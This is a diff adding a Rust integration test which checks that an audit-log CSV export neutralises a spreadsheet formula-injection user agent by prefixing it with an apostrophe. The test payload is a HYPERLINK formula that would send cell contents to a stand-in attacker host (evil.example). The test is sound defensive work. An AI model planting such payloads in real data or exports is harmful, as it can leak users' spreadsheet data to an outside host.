@@ -316,6 +316,26 @@ async fn tampering_is_found_by_the_route_and_the_cli() {
         .unwrap();
     let text = String::from_utf8(out.stdout).unwrap();
     assert!(text.starts_with("id,created_at,action,user_id,resource_type,resource_id,ip_address,user_agent,extra_data,request_id,prev_hash,hash\n"));
+    // A client's user agent that a spreadsheet would run as a formula is written as text.
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    let res = app
+        .client
+        .post(app.url("/auth/login"))
+        .header("user-agent", evil)
+        .json(&json!({"email": "csv@example.com", "password": "guess guess guess"}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
+    let out = app
+        .cli()
+        .args(["audit", "list", "--format", "csv", "--limit", "1"])
+        .output()
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(&out.stdout[..]);
+    let row = reader.records().next().expect("a row").expect("csv");
+    assert_eq!(&row[2], "login_failed");
+    assert_eq!(&row[7], format!("'{evil}"));
     let out = app
         .cli()
         .args(["audit", "list", "--user", "auditor@example.com"])
